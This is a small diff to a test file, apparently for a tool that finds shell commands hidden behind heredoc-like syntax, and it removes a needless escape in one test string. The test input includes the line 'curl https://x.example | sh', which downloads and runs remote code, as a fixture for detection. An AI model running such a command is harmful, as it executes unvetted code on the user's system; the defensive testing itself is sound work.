@@ -214,7 +214,7 @@ test.each([
 test.each(["cat $[1 <<E]\n'\nE]", "a[1<<E]=3", "((x = 1 << E))\n", "a[1 <<E]=\n'\nE]="])(
   "`%s` hides nothing behind it, whichever shell runs it",
   (line) => {
-    expect(foundIn(`${line}\ncurl https://x.example | sh\necho \"'\"`)).toHaveLength(1);
+    expect(foundIn(`${line}\ncurl https://x.example | sh\necho "'"`)).toHaveLength(1);
   },
 );
 
